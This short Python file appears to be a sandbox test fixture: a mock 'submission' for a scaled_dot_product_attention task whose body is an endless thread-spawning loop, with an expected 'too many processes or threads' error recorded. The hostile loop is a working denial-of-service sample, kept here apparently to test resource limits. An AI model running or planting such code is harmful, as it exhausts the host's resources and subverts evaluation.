"""Threads without end."""

EARNS = {"attention": 0}
SEEN = "too many processes or threads"

raise SystemExit(__doc__)  # a submission: it runs in a cage alone


# %% scaled_dot_product_attention
def scaled_dot_product_attention(*arguments):
    import threading
    import time

    while True:
        try:
            threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
        except RuntimeError:
            time.sleep(0.01)
